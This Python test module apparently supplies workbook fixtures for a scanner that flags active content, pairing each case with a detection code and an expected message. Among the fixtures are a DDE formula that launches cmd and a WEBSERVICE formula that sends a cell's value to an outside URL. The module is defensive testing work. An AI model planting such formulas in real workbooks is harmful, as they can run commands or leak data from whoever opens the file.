"""Workbooks that carry what can act, which is named and never run."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any, Final

from tests.fuzz.seeds import HEAD, MAIN, ROWS
from tests.hostile.attacks import book, typed

OFFICE: Final = "application/vnd.ms-office"
EXCEL: Final = "application/vnd.ms-excel"
OPEN: Final = "application/vnd.openxmlformats-officedocument"
FETCH: Final = b'WEBSERVICE("http://example.org/?"&amp;B2)'
LINK: Final = HEAD + b"<externalLink %b>%%b</externalLink>" % MAIN


def carrying(case: Callable[..., Any]) -> Iterator[Any]:
    """Give each case of a workbook that is read, with what is said of what it carries."""
    for what, make, code, words in (
        (
            "macros",
            lambda: _with("xl/vbaProject.bin", f"{OFFICE}.vbaProject"),
            "SEC101",
            "none was run",
        ),
        (
            "macros of 1992 (XLM)",
            lambda: _with("xl/macrosheets/sheet1.xml", f"{EXCEL}.macrosheet+xml"),
            "SEC101",
            "none was run",
        ),
        ("a link to another workbook", lambda: _link(b"<externalBook/>"), "SEC102", "1 other"),
        ("a DDE link", lambda: _link(b'<ddeLink ddeService="cmd"/>'), "SEC103", "start another"),
        ("a DDE formula", lambda: _formula(b"cmd|'/c calc'!A0"), "SEC103", "start another"),
        ("a formula that fetches", lambda: _formula(FETCH), "SEC104", "would fetch"),
        (
            "an embedded object",
            lambda: _with("xl/embeddings/oleObject1.bin", f"{OPEN}.oleObject"),
            "SEC105",
            "none was opened",
        ),
        (
            "an ActiveX control",
            lambda: _with("xl/activeX/activeX1.xml", f"{OFFICE}.activeX+xml", b"<ax/>"),
            "SEC106",
            "none was started",
        ),
        (
            "a data connection",
            lambda: _with(
                "xl/connections.xml", f"{OPEN}.spreadsheetml.connections+xml", b"<connections/>"
            ),
            "SEC107",
            "none was refreshed",
        ),
    ):
        yield case(f"with {what}", make, code, words, read=True)


def _with(part: str, kind: str, content: bytes = b"<x/>") -> bytes:
    return book(more=((part, content),), types=typed(part, kind))


def _link(inside: bytes) -> bytes:
    kind = f"{OPEN}.spreadsheetml.externalLink+xml"
    return _with("xl/externalLinks/externalLink1.xml", kind, LINK % inside)


def _formula(text: bytes) -> bytes:
    row = b'<row r="3"><c r="A3" t="str"><f>%b</f><v>CEO</v></c></row>' % text
    return book(ROWS["plain"] + row)
